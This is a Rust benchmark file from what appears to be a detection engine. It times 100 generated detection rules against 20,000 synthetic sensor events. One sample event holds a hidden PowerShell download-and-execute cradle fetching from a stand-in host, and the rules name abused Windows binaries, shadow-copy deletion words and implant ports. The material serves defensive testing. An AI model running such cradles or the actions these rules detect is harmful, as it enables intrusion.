//! Rule-stage throughput: 100 rules (the shipped ones plus generated ones shaped like real
//! detection content) over a realistic mix of sensor events, on one core.
//!
//! `cargo bench --bench rules`

#![expect(
    clippy::expect_used,
    reason = "a benchmark stops at once on a broken setup"
)]

use std::hint::black_box;
use std::path::Path;
use std::sync::Arc;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use palisade::event::{Event, normalize};
use palisade::pipeline::{Outcome, Pipeline};
use palisade::rules::{RuleDefinition, RuleEngine, RuleLimits, load_rule};

const EVENTS: usize = 20_000;
const RULES: usize = 100;

/// The shipped rules plus generated ones shaped like real detection content. `unfiltered` of
/// them run a script on every process start (no declarative filter): the expensive kind.
fn rules(unfiltered: usize) -> Vec<Arc<RuleDefinition>> {
    let limits = RuleLimits::default();
    let mut sources: Vec<String> = std::fs::read_dir("rules")
        .expect("run from the repository root")
        .map(|e| e.expect("entry").path())
        .filter(|path| path.extension().is_some_and(|e| e == "rhai"))
        .map(|path| std::fs::read_to_string(path).expect("read rule"))
        .collect();
    let binaries = [
        "certutil.exe",
        "bitsadmin.exe",
        "mshta.exe",
        "wmic.exe",
        "schtasks.exe",
        "reg.exe",
        "net.exe",
        "vssadmin.exe",
        "bcdedit.exe",
        "wevtutil.exe",
        "msbuild.exe",
        "installutil.exe",
    ];
    let mut n = 0;
    let mut scripts = 0;
    while sources.len() < RULES {
        n += 1;
        let kind = if n % 10 == 9 && scripts < unfiltered {
            scripts += 1;
            9
        } else {
            n % 9
        };
        let source = match kind {
            // Process rules: a binary plus command-line words, then a script check.
            0..=4 => format!(
                r#"let rule = #{{ id: "gen-proc-{n}", title: "Suspicious {b} use", severity: "medium",
                    events: ["process_create"], filter: #{{ name: ["{b}"], "cmdline|contains": ["/c", "delete", "create", "-enc"] }} }};
                fn detect(event) {{ if contains_any(event.cmdline, ["shadows", "/f", "http"]) {{ #{{ entity: "process" }} }} }}"#,
                b = binaries[n % binaries.len()]
            ),
            // Network rules: ports commonly used by implants.
            5 | 6 => format!(
                r#"let rule = #{{ id: "gen-net-{n}", title: "Connection to implant port", severity: "medium",
                    events: ["network_connection"], filter: #{{ remote_port: [{p}, {q}, 31337] }} }};
                fn detect(event) {{ #{{ entity: "address" }} }}"#,
                p = 4000 + n,
                q = 8000 + n
            ),
            // DNS rules: suspicious suffixes.
            7 => format!(
                r#"let rule = #{{ id: "gen-dns-{n}", title: "Lookup of a suspicious domain", severity: "low",
                    events: ["dns_query"], filter: #{{ "query_name|endswith": [".top{n}", ".xyz{n}", ".onion"] }} }};"#
            ),
            // Login rules: failed logins by method.
            8 => format!(
                r#"let rule = #{{ id: "gen-login-{n}", title: "Failed login", severity: "low",
                    events: ["login"], filter: #{{ outcome: ["failure"], method: ["password{n}"] }} }};"#
            ),
            // A script on every process event: the expensive kind, kept rare as in real content.
            _ => format!(
                r#"let rule = #{{ id: "gen-script-{n}", title: "Long command line", severity: "low", events: ["process_create"] }};
                fn detect(event) {{ (event.cmdline ?? "").len() > 2000 }}"#
            ),
        };
        sources.push(source);
    }
    sources
        .iter()
        .enumerate()
        .map(|(i, s)| {
            Arc::new(
                load_rule(Path::new(&format!("bench-{i}.rhai")), s, &limits)
                    .expect("bench rule loads"),
            )
        })
        .collect()
}

/// A realistic mix: 60% process starts, 25% connections, 10% DNS, 5% logins; about 1% malicious.
fn events() -> Vec<Event> {
    let benign_procs = [
        "svchost.exe",
        "chrome.exe",
        "explorer.exe",
        "msedge.exe",
        "teams.exe",
        "outlook.exe",
        "conhost.exe",
        "git.exe",
        "code.exe",
        "python.exe",
    ];
    let parents = [
        "services.exe",
        "explorer.exe",
        "userinit.exe",
        "chrome.exe",
        "cmd.exe",
    ];
    (0..EVENTS)
        .map(|i| {
            let line = match i % 20 {
                0..=11 => {
                    let (name, parent, cmdline) = if i % 100 == 3 {
                        ("powershell.exe", "WINWORD.EXE", "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
                    } else {
                        (benign_procs[i % benign_procs.len()], parents[i % parents.len()], "C:\\Program Files\\App\\app.exe --type=renderer --lang=en-US")
                    };
                    format!(r#"{{"type":"process_create","timestamp":{i},"host":"ws-{h}","pid":{pid},"ppid":4,"name":"{name}","parent_name":"{parent}","cmdline":"{cmd}","user":"CORP\\u{h}"}}"#,
                        h = i % 50, pid = 1000 + i, cmd = cmdline.replace('\\', "\\\\"))
                }
                12..=16 => format!(r#"{{"type":"network_connection","timestamp":{i},"host":"ws-{h}","pid":{pid},"name":"chrome.exe","remote_ip":"93.184.{a}.{b}","remote_port":{port},"protocol":"tcp","direction":"outbound"}}"#,
                    h = i % 50, pid = 1000 + i, a = i % 250, b = i % 200, port = if i % 97 == 0 { 4005 } else { 443 }),
                17 | 18 => format!(r#"{{"type":"dns_query","timestamp":{i},"host":"ws-{h}","pid":{pid},"name":"svchost.exe","query_name":"cdn{i}.example.com"}}"#,
                    h = i % 50, pid = 1000 + i),
                _ => format!(r#"{{"type":"login","timestamp":{i},"host":"srv-{h}","user":"u{h}","source_ip":"10.0.{h}.7","outcome":"{o}","method":"ssh-key"}}"#,
                    h = i % 50, o = if i % 3 == 0 { "failure" } else { "success" }),
            };
            normalize(line.as_bytes()).expect("bench event normalizes")
        })
        .collect()
}

fn rule_stage(c: &mut Criterion) {
    let events = events();
    let mut group = c.benchmark_group("rules");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.sample_size(20);
    // Typical content: every rule but two has a declarative filter; a worst case: ten rules run
    // a script on every process start.
    for (label, unfiltered) in [
        ("100 rules, 2 without a filter", 2),
        ("100 rules, 10 without a filter", 10),
    ] {
        let rules = rules(unfiltered);
        assert_eq!(rules.len(), RULES);
        let mut engine = RuleEngine::build(
            &rules,
            &RuleLimits::default(),
            &palisade::intel::IntelHandle::default(),
        )
        .expect("engine builds");
        group.bench_function(label, |b| {
            let (mut detections, mut failures) = (Vec::new(), Vec::new());
            b.iter(|| {
                for event in &events {
                    detections.clear();
                    failures.clear();
                    engine.evaluate(black_box(event), &[], &mut detections, &mut failures);
                }
                assert!(failures.is_empty());
                black_box(detections.len())
            });
        });
    }
    group.finish();
}

fn spine(c: &mut Criterion) {
    // Normalization from bytes, rules and playbook planning with the shipped content.
    let content =
        Arc::new(palisade::content::load(Path::new("."), None).expect("shipped content loads"));
    let lines: Vec<String> = events()
        .iter()
        .map(|e| serde_json::to_string(&flat(e)).expect("json"))
        .collect();
    let mut pipeline = Pipeline::new(content, true, palisade::intel::IntelHandle::default())
        .expect("pipeline builds");
    let mut group = c.benchmark_group("spine");
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.sample_size(20);
    group.bench_function("normalize + shipped rules + planning", |b| {
        let mut outcome = Outcome::default();
        b.iter(|| {
            let mut detections = 0;
            for line in &lines {
                let event = normalize(line.as_bytes()).expect("normalizes");
                outcome.clear();
                pipeline.process(&event, &mut outcome);
                detections += outcome.detections.len();
            }
            black_box(detections)
        });
    });
    group.finish();
}

/// The flat sensor shape of an event, as a sensor would send it.
fn flat(event: &Event) -> serde_json::Value {
    let mut value = serde_json::to_value(event).expect("event serializes");
    if let Some(map) = value.as_object_mut() {
        if let Some(ms) = map.remove("timestamp_ms") {
            map.insert("timestamp".into(), ms);
        }
        if let Some(serde_json::Value::Object(extra)) = map.remove("extra") {
            map.extend(extra);
        }
    }
    value
}

criterion_group!(benches, rule_stage, spine);
criterion_main!(benches);
